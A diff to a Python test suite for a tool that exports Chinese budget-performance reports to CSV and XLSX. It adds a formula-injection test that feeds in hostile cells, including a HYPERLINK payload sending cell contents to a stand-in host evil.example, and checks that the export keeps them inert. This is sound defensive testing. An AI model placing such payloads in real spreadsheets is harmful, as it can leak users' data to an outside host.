@@ -51,11 +51,83 @@ def report(*extra, check_code=0, text=True):
 
 _CSV_CACHE = {}
 
+# The report CSV's Chinese headers (the default, for Excel) and the machine names they stand for
+# (`--csv-headers en`): the column order is the same.
+ZH_COLUMNS = {
+    "部门编码": "department",
+    "部门名称": "department_name",
+    "截至日期": "as_of",
+    "行类型": "row",
+    "项目编码": "project",
+    "项目名称": "project_name",
+    "指标编号": "indicator",
+    "一级指标": "level1",
+    "二级指标": "level2",
+    "三级指标": "name",
+    "比较方式": "comparator",
+    "年度指标值": "target",
+    "计量单位": "unit",
+    "指标值（文字）": "target_text",
+    "实际完成": "actual",
+    "序时应完成": "expected",
+    "全年预计": "projected",
+    "预计依据": "projected_basis",
+    "状态": "status",
+    "过期前状态": "underlying_status",
+    "预警": "lamp",
+    "预警明细": "warnings",
+    "需关注": "attention",
+    "变化": "change",
+    "上期预警": "previous_lamp",
+    "预算（元）": "budget_yuan",
+    "已支出（元）": "spent_yuan",
+    "执行率": "spent_ratio",
+    "计划进度": "planned_ratio",
+    "应达进度": "required_ratio",
+    "偏差": "lag_ratio",
+    "序时进度": "elapsed_ratio",
+    "执行率/序时进度（%）": "time_progress_pct",
+    "下一检查点": "next_checkpoint",
+    "下一检查点进度": "next_checkpoint_share",
+    "每日需支出（元）": "required_daily_spend_yuan",
+    "按近期进度预计年末执行率": "projected_year_end_ratio",
+    "权重": "weight",
+    "得分": "score",
+    "等级": "grade",
+    "最近填报": "last_report",
+    "偏差原因类别": "cause",
+    "完成可能性": "likelihood",
+    "全年预测": "forecast",
+    "整改措施": "measure",
+    "说明": "note",
+    "年度": "fiscal_year",
+    "填报频次": "frequency",
+    "得分覆盖率": "score_coverage_ratio",
+    "财政拨款执行率": "fiscal_spent_ratio",
+    "其他资金执行率": "other_spent_ratio",
+    "项目平均得分": "projects_score",
+    "项目得分覆盖率": "projects_score_coverage_ratio",
+}
+
+
+def read_report_csv(text):
+    """Rows of a report CSV keyed by the machine names, whichever headers it was written with."""
+    if text.startswith("\ufeff"):
+        text = text[1:]
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    header = [ZH_COLUMNS.get(h, h) for h in rows[0]]
+    return [dict(zip(header, r)) for r in rows[1:]]
+
+
+def unguarded(text):
+    """A CSV text cell without the formula-injection apostrophe (what the XLSX string holds)."""
+    return text[1:] if text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t", "\r") else text
+
 
 def csv_rows(date=DATE):
     if date not in _CSV_CACHE:
         text = report("--as-of", date, "--format", "csv").stdout
-        _CSV_CACHE[date] = list(csv.DictReader(io.StringIO(text, newline="")))
+        _CSV_CACHE[date] = read_report_csv(text)
     return _CSV_CACHE[date]
 
 
@@ -79,8 +151,39 @@ class CliTest(unittest.TestCase):
     def test_format_from_the_output_extension(self):
         path = out("cli-format.csv")
         report("--as-of", DATE, "-o", path)
-        with open(path, encoding="utf-8") as f:
-            self.assertTrue(f.readline().startswith("department,department_name,as_of,row"))
+        with open(path, "rb") as f:
+            head = f.readline()
+        # UTF-8 with a BOM and Chinese headers: what Excel on Chinese Windows opens right.
+        self.assertTrue(head.startswith("\ufeff部门编码,部门名称,截至日期,行类型".encode()), head)
+
+    def test_hostile_notes_stay_text(self):
+        """Formula injection (CWE-1236): notes reach the CSV guarded and the XLSX as strings."""
+        hostile = out("hostile-actuals.csv")
+        note = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+        with open(hostile, "w", encoding="utf-8", newline="") as f:
+            w = csv.writer(f)
+            w.writerow(["project", "indicator", "value", "as_of", "note", "measure"])
+            w.writerow([LEGAL_AID, "spending", "30", DATE, note, "@SUM(1+1)"])
+            w.writerow([LEGAL_AID, "quantity-1", "100", DATE, "-2+3", "+cmd"])
+        base = [ARGS.cli, "report", "--targets", src(FIXTURES + "/langfang-justice-2025.toml"),
+                "--actuals", hostile, "--as-of", DATE, "--rules", RULES]
+        text = subprocess.run(base + ["--format", "csv"], capture_output=True, text=True,
+                              timeout=120, check=True).stdout
+        rows = read_report_csv(text)
+        spend = next(r for r in rows if r["row"] == "spending" and r["project"] == LEGAL_AID)
+        self.assertEqual(spend["note"], "'" + note)
+        self.assertEqual(spend["measure"], "'@SUM(1+1)")
+        for row in rows:
+            for value in row.values():
+                self.assertFalse(value[:1] in ("=", "+", "@", "\t", "\r"), value)
+        path = out("hostile.xlsx")
+        subprocess.run(base + ["--format", "xlsx", "-o", path], check=True, timeout=120)
+        wb = Workbook(path)
+        for name, sheet in wb.sheets:
+            xml = wb.zip.read(sheet).decode("utf-8")
+            self.assertNotIn("<f>", xml, name)
+            self.assertNotIn("<f ", xml, name)
+        self.assertIn(note, wb.strings)  # the note as written, as a string cell
 
     def test_department_filter_and_errors(self):
         md = report("--as-of", DATE, "--department", "375").stdout
@@ -291,7 +394,9 @@ def find(cells, text):
     raise AssertionError("no cell %r" % text)
 
 
-LAMPS = {"red": "红灯", "yellow": "黄灯", "green": "绿灯"}
+LAMPS = {"red": "红灯", "yellow": "黄灯", "green": "绿灯", "grey": "灰灯", "stale": "数据过期"}
+FILLS = {"red": "FFC62828", "yellow": "FFFFD54F", "green": "FF2E7D32", "grey": "FFBDBDBD",
+         "stale": "FFBDBDBD"}
 STATUS = {"met": "已达成", "on_track": "正常", "at_risk": "有风险", "not_met": "未达成",
           "pending": "待评价", "no_data": "无数据", "stale": "数据过期"}
 
@@ -308,6 +413,14 @@ class XlsxTest(unittest.TestCase):
         self.assertEqual(names[0], "汇总")
         self.assertEqual(len(names), 1 + len(spending_rows()))
         self.assertEqual(len({n.lower() for n in names}), len(names))
+        # Project sheets: the project code, then as much of the name as fits, never cut inside a
+        # bracket (a half document number reads as another number).
+        for n, row in zip(names[1:], spending_rows()):
+            self.assertTrue(n.startswith(row["project"]), (n, row["project"]))
+            rest = n[len(row["project"]):].strip()
+            self.assertTrue(row["project_name"].startswith(rest), (n, row["project_name"]))
+            if rest != row["project_name"]:
+                self.assertFalse(any(b in rest for b in "（(〔[【《"), n)
         for n in names:
             self.assertTrue(0 < len(n.encode("utf-16-le")) // 2 <= 31, n)
             self.assertIsNone(re.search(r"[\[\]:*?/\\]", n), n)
@@ -342,16 +455,15 @@ class XlsxTest(unittest.TestCase):
             self.assertAlmostEqual(ratio, float(row["spent_ratio"]), delta=5e-5)
             lamp, _, fill = cells[(pr + 1 + i, cols["资金预警"])]
             self.assertTrue(lamp.startswith(LAMPS[row["lamp"]]), (lamp, row["lamp"]))
-            self.assertEqual(fill, {"red": "FFC62828", "yellow": "FFFFD54F",
-                                    "green": "FF2E7D32"}[row["lamp"]])
+            self.assertEqual(fill, FILLS[row["lamp"]])
         # Problems first: the attention table lists red before yellow before the rest.
         ar, _ = find(cells, "类别")
         kinds = []
         row = ar + 1
-        while (row, 0) in cells and cells[(row, 0)][0] in ("红灯", "黄灯", "无数据", "数据过期"):
+        while (row, 0) in cells and cells[(row, 0)][0] in ("红灯", "黄灯", "未报送", "数据过期"):
             kinds.append(cells[(row, 0)][0])
             row += 1
-        order = {"红灯": 0, "黄灯": 1, "无数据": 2, "数据过期": 2}
+        order = {"红灯": 0, "黄灯": 1, "未报送": 2, "数据过期": 2}
         self.assertEqual([order[k] for k in kinds], sorted(order[k] for k in kinds))
         self.assertIn("红灯", kinds)
 
@@ -390,10 +502,11 @@ class XlsxTest(unittest.TestCase):
             cols = {v: cc for (rr, cc), (v, _, _) in cells.items() if rr == hr}
             for i, ind in enumerate(indicators):
                 r = hr + 1 + i
-                self.assertEqual(cells[(r, cols["一级指标"])][0], ind["level1"])
-                self.assertEqual(cells[(r, cols["二级指标"])][0], ind["level2"])
-                self.assertEqual(cells[(r, cols["三级指标"])][0], ind["name"])
-                self.assertEqual(cells[(r, cols["年度指标值"])][0], ind["target_text"])
+                self.assertEqual(cells[(r, cols["一级指标"])][0], unguarded(ind["level1"]))
+                self.assertEqual(cells[(r, cols["二级指标"])][0], unguarded(ind["level2"]))
+                self.assertEqual(cells[(r, cols["三级指标"])][0], unguarded(ind["name"]))
+                # "=3栋" is a target text: guarded in the CSV, a plain string in the XLSX.
+                self.assertEqual(cells[(r, cols["年度指标值"])][0], unguarded(ind["target_text"]))
                 self.assertTrue(cells[(r, cols["状态"])][0].startswith(STATUS[ind["status"]]))
                 self.assertTrue(cells[(r, cols["预警"])][0].startswith(LAMPS[ind["lamp"]]))
                 if ind["target"]:
@@ -407,9 +520,10 @@ class XlsxTest(unittest.TestCase):
                                            float(ind["expected"]), delta=1e-4)
                 cause = ind["cause"] + ("：" + ind["note"] if ind["cause"] and ind["note"]
                                         else ind["note"])
-                self.assertEqual(cells.get((r, cols["偏差原因"]), (None,))[0] or "", cause)
+                self.assertEqual(cells.get((r, cols["偏差原因"]), (None,))[0] or "",
+                                 unguarded(cause))
                 self.assertEqual(cells.get((r, cols["整改措施"]), (None,))[0] or "",
-                                 ind["measure"])
+                                 unguarded(ind["measure"]))
             self.assertNotIn((hr + 1 + len(indicators), cols["三级指标"]), cells)
 
 
